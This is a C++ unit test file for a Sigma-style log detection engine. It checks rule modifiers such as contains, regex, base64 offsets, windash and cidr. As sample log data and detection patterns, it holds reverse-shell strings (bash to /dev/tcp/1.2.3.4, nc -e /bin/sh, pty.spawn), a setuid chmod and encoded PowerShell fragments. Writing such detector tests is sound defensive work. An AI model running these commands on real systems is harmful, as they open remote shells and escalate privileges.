// One test per modifier, plus the chains that must be rejected at load time.
#include <catch2/catch.hpp>

#include "rules/engine/modifiers.hpp"
#include "tests/unit/rules/rule_helpers.hpp"

using seerflow::rules::testing::one_rule;
namespace sr = seerflow::rules;

namespace {
// `sel:` with one item, condition sel.
std::string item(const std::string& key, const std::string& value) {
  return "  sel:\n    " + key + ": " + value + "\n  condition: sel\n";
}
}  // namespace

TEST_CASE("contains, startswith, endswith") {
  one_rule c(item("f|contains", "'dev/tcp'"));
  CHECK(c.match(R"({"f": "bash -i >& /DEV/TCP/1.2.3.4/80"})"));
  CHECK_FALSE(c.match(R"({"f": "bash"})"));
  one_rule s(item("f|startswith", "'sh -c'"));
  CHECK(s.match(R"({"f": "sh -c id"})"));
  CHECK_FALSE(s.match(R"({"f": "bash -c sh -c id"})"));
  one_rule e(item("f|endswith", "'\\cmd.exe'"));
  CHECK(e.match(R"({"f": "C:\\Windows\\System32\\CMD.EXE"})"));
  CHECK_FALSE(e.match(R"({"f": "C:\\cmd.exe.bak"})"));
  one_rule short_suffix(item("f|endswith", "'/id'"));
  CHECK(short_suffix.match(R"({"f": "/usr/bin/id"})"));
  CHECK_FALSE(short_suffix.match(R"({"f": "id"})"));
}

TEST_CASE("all and cased") {
  one_rule a(item("f|contains|all", "['chmod', '+s']"));
  CHECK(a.match(R"({"f": "chmod u+s x"})"));
  CHECK_FALSE(a.match(R"({"f": "chmod 755 x"})"));
  one_rule c(item("f|cased", "'Admin'"));
  CHECK(c.match(R"({"f": "Admin"})"));
  CHECK_FALSE(c.match(R"({"f": "admin"})"));
  one_rule cc(item("f|cased|contains", "'IEX'"));
  CHECK(cc.match(R"({"f": "x IEX y"})"));
  CHECK_FALSE(cc.match(R"({"f": "x iex y"})"));
}

TEST_CASE("unicode case folding") {
  one_rule u(item("User", "'Administratör'"));
  CHECK(u.match(R"({"User": "ADMINISTRATÖR"})"));
  one_rule g(item("f|contains", "'Järjestelmänvalvoja'"));
  CHECK(g.match(R"({"f": "x JÄRJESTELMÄNVALVOJA y"})"));
  one_rule q(item("f", "'a?c'"));
  CHECK(q.match(R"({"f": "aéc"})"));  // ? is one code point, not one byte
}

TEST_CASE("re with flags") {
  one_rule r(item("f|re", "'nc(\\.openbsd)? -e'"));
  CHECK(r.match(R"({"f": "/bin/nc.openbsd -e /bin/sh"})"));
  one_rule cs(item("f|re", "'IEX'"));
  CHECK_FALSE(cs.match(R"({"f": "iex"})"));
  one_rule i(item("f|re|i", "'IEX'"));
  CHECK(i.match(R"({"f": "iex"})"));
  one_rule inl(item("f|re", "'(?i)iex'"));
  CHECK(inl.match(R"({"f": "IEX"})"));
  one_rule m(item("f|re|m", "'^evil$'"));
  CHECK(m.match(R"({"f": "a\nevil\nb"})"));
  one_rule s(item("f|re|s", "'a.b'"));
  CHECK(s.match(R"({"f": "a\nb"})"));
  one_rule bad(item("f|re", "'(unclosed'"));
  CHECK_FALSE(bad.loaded());
  CHECK(bad.reason().find("regular expression") != std::string::npos);
}

TEST_CASE("base64, base64offset and utf16 encodings") {
  CHECK(sr::base64_encode("whoami") == "d2hvYW1p");
  CHECK(sr::base64_encode("a") == "YQ==");
  const auto off = sr::base64_offsets("http://");
  REQUIRE(off.size() == 3);
  CHECK(off[0] == "aHR0cDovL");
  CHECK(off[1] == "h0dHA6Ly");
  CHECK(off[2] == "odHRwOi8v");
  CHECK(sr::utf16_encode("cmd", false) == std::string("c\0m\0d\0", 6));
  CHECK(sr::utf16_encode("cmd", true) == std::string("\0c\0m\0d", 6));
  one_rule b(item("f|base64|contains", "'whoami'"));
  CHECK(b.match(R"({"f": "echo d2hvYW1pICYmIGlk | base64 -d"})"));
  one_rule w(item("f|wide|base64offset|contains", "'cmd'"));
  CHECK(w.match(R"({"f": "powershell -enc YwBtAGQA"})"));
  one_rule u16(item("f|utf16|base64", "'cmd'"));
  CHECK(u16.match(R"({"f": "//5jAG0AZAA="})"));
  one_rule be(item("f|utf16be|base64", "'cmd'"));
  CHECK(be.match(R"({"f": "AGMAbQBk"})"));
  one_rule wild(item("f|base64", "'who*'"));
  CHECK_FALSE(wild.loaded());
}

TEST_CASE("windash") {
  one_rule w(item("f|windash|contains", "' -exec '"));
  CHECK(w.match(R"({"f": "x /exec y"})"));
  CHECK(w.match(R"({"f": "x \u2013exec y"})"));
  CHECK_FALSE(w.match(R"({"f": "x +exec y"})"));
  const auto v = sr::windash_variants(sr::parse_sigma_string("a-b -c /d"), 1000);
  CHECK(v.size() == 25);  // two word-starting dashes/slashes, five forms each
}

TEST_CASE("cidr") {
  one_rule v4(item("ip|cidr", "['10.0.0.0/8', '172.16.0.0/12']"));
  CHECK(v4.match(R"({"ip": "172.31.1.1"})"));
  CHECK_FALSE(v4.match(R"({"ip": "172.32.0.1"})"));
  CHECK_FALSE(v4.match(R"({"ip": "10.0.0.1.example.com"})"));
  CHECK_FALSE(v4.match(R"({"ip": "::ffff:10.0.0.1"})"));
  one_rule v6(item("ip|cidr", "'2001:db8::/32'"));
  CHECK(v6.match(R"({"ip": "2001:0DB8:abcd::1"})"));
  CHECK_FALSE(v6.match(R"({"ip": "10.0.0.1"})"));
  CHECK_FALSE(one_rule(item("ip|cidr", "'10.0.0.0/33'")).loaded());
}

TEST_CASE("exists, null, neq") {
  one_rule t(item("f|exists", "true"));
  CHECK(t.match(R"({"f": ""})"));
  CHECK_FALSE(t.match(R"({"g": "x"})"));
  one_rule f(item("f|exists", "false"));
  CHECK(f.match(R"({"g": "x"})"));
  one_rule n(item("f", "null"));
  CHECK(n.match(R"({"g": 1})"));
  CHECK(n.match(R"({"f": null})"));
  CHECK_FALSE(n.match(R"({"f": ""})"));
  one_rule q(item("f|neq", "['a', 'b']"));
  CHECK(q.match(R"({"f": "c"})"));
  CHECK(q.match(R"({"g": "c"})"));
  CHECK_FALSE(q.match(R"({"f": "B"})"));
}

TEST_CASE("numeric comparisons") {
  one_rule gt(item("n|gt", "10"));
  CHECK(gt.match(R"({"n": 11})"));
  CHECK(gt.match(R"({"n": "11"})"));
  CHECK_FALSE(gt.match(R"({"n": 10})"));
  CHECK_FALSE(gt.match(R"({"n": "ten"})"));
  CHECK(one_rule(item("n|lte", "1.5")).match(R"({"n": 1.5})"));
  CHECK(one_rule(item("n|lt", "0")).match(R"({"n": -3})"));
  CHECK(one_rule(item("n|gte", "3")).match(R"({"n": "3"})"));
  CHECK_FALSE(one_rule(item("n|gt", "'15'")).loaded());
}

TEST_CASE("expand placeholders come from the caller") {
  sr::load_options opts;
  opts.placeholders["Admins"] = {"root", "adm*"};
  one_rule e(item("User|expand", "'%Admins%'"), opts);
  REQUIRE(e.loaded());
  CHECK(e.match(R"({"User": "admin2"})"));
  CHECK(e.match(R"({"User": "ROOT"})"));
  CHECK_FALSE(e.match(R"({"User": "bob"})"));
  one_rule missing(item("User|expand", "'%Nobody%'"));
  CHECK_FALSE(missing.loaded());
  CHECK(missing.reason().find("%Nobody%") != std::string::npos);
}

TEST_CASE("fieldref") {
  one_rule r(item("a|fieldref", "'b'"));
  CHECK(r.match(R"({"a": "X", "b": "x"})"));
  CHECK_FALSE(r.match(R"({"a": "x", "b": "y"})"));
  CHECK_FALSE(r.match(R"({"a": "x"})"));
  one_rule c(item("a|fieldref|contains", "'b'"));
  CHECK(c.match(R"({"a": "xyz", "b": "Y"})"));
  CHECK_FALSE(one_rule(item("a|fieldref", "'b*'")).loaded());
}

TEST_CASE("illegal chains are rejected with a reason") {
  const char* bad[][2] = {
      {"f|contains|re", "'x'"},
      {"f|startswith|re", "'x'"},
      {"f|cidr|contains", "'10.0.0.0/8'"},
      {"f|contains|cidr", "'10.0.0.0/8'"},
      {"f|i", "'x'"},
      {"f|m", "'x'"},
      {"f|s", "'x'"},
      {"f|gt", "'abc'"},
      {"f|exists", "'yes'"},
      {"f|contains|exists", "true"},
      {"f|containz", "'x'"},
      {"f|re|base64", "'x'"},
      {"f|gt|contains", "5"},
      {"f|minute", "5"},
  };
  for (const auto& b : bad) {
    one_rule r(item(b[0], b[1]));
    INFO(b[0]);
    CHECK_FALSE(r.loaded());
    CHECK_FALSE(r.reason().empty());
  }
}

TEST_CASE("keywords") {
  one_rule k("  keywords:\n    - 'Accepted publickey'\n    - 'pty.spawn'\n  condition: keywords\n");
  CHECK(k.match(R"({"msg": "sshd: ACCEPTED PUBLICKEY for root"})"));
  CHECK(k.match(R"({"a": "x", "cmd": "python -c 'import pty;pty.spawn(1)'"})"));
  CHECK_FALSE(k.match(R"({"msg": "Failed password"})"));
  one_rule n("  kw:\n    - 6\n  condition: kw\n");
  CHECK(n.match(R"({"a": "6"})"));
  CHECK_FALSE(n.match(R"({"a": "60"})"));
}
